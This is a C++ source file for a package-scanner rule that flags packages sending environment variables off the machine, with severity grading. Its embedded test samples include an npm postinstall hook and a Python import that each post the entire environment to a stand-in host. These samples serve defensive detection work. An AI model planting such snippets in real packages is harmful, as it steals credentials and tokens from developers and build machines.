#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || !is_shipped(action)) continue;
    if (!outflow(action).has(Source::environment)) continue;
    const HostKind kind = destination_of(action.target).kind;
    if (kind == HostKind::local) continue;
    const bool is_shady = is_shady_origin(kind) || kind == HostKind::free_hosting;
    const bool is_fixed =
        kind == HostKind::ordinary && destination_of(action.target).host_is_constant;
    const bool is_python = facts.file(action.where).kind == FileKind::python;
    if (!runs_uncalled(action) && !is_shady && !(is_fixed && is_python)) continue;
    // Where to is not known: a mirror or server that a variable names looks like this.
    const bool is_computed = kind == HostKind::unknown;
    if (is_computed && !at_install(action)) continue;
    const bool waits = !runs_uncalled(action) && !is_shady;
    const Severity severity = is_computed ? Severity::medium
                              : waits     ? Severity::high
                                          : Severity::critical;
    findings.add(severity, action.where,
                 sentence("sends the environment to " + shown_target(action), action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule sends_environment = {
    .id = "sends-environment",
    .title = "The package sends the environment",
    .why =
        "The environment holds tokens and keys, above all on build machines. Taking all of it "
        "is taking whatever is there.",
    .harmless_when =
        "A crash reporter that sends a list of named, harmless variables when it is "
        "called.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "an install hook posts process.env",
     .expect = "index.js:5",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const https = require("https");
const body = JSON.stringify(process.env);
const options = {hostname: "collect.example.test", path: "/", method: "POST"};
const request = https.request(options);
request.write(body);
request.end();
)"},
    {.name = "a module posts os.environ when imported",
     .expect = "widget/__init__.py:3",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import os
import requests
requests.post("https://collect.example.test/", json=dict(os.environ))
)"},
    {.name = "one named variable chooses a mirror", .expect = silent, .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const https = require("https");
const mirror = process.env.SAMPLE_MIRROR || "https://downloads.example.test";
https.get(`${mirror}/tool.tgz`);
)"},
};
extern const std::span<const Sample> sends_environment_samples = samples;
#endif

}  // namespace assay::rules
